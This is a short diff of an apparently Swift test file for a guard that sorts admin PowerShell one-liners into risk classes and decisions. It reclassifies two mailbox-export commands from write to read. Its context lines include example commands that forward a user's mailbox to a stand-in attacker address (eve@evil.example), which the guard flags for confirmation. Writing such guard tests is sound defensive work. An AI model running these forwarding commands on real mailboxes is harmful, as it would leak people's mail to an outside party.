@@ -139,8 +139,8 @@ struct AdminOneLinerTests {
     static let changes: [(String, GuardClass, GuardDecision)] = [
         ("Set-Mailbox ann -CustomAttribute1 x", .write, .allow),
         ("Add-DistributionGroupMember -Identity sales -Member ann", .write, .allow),
-        ("Get-Mailbox -ResultSize Unlimited | Export-Csv mailboxes.csv -NoTypeInformation", .write, .allow),
-        ("Get-Mailbox | Out-File list.txt", .write, .allow),
+        ("Get-Mailbox -ResultSize Unlimited | Export-Csv mailboxes.csv -NoTypeInformation", .read, .allow),
+        ("Get-Mailbox | Out-File list.txt", .read, .allow),
         ("Update-MgUser -UserId ann -PasswordProfile x", .privilege, .ask),
         ("Set-Mailbox ann -ForwardingSmtpAddress eve@evil.example", .external, .ask),
         ("Set-Mailbox ann -ForwardingSmtp eve@evil.example", .external, .ask),
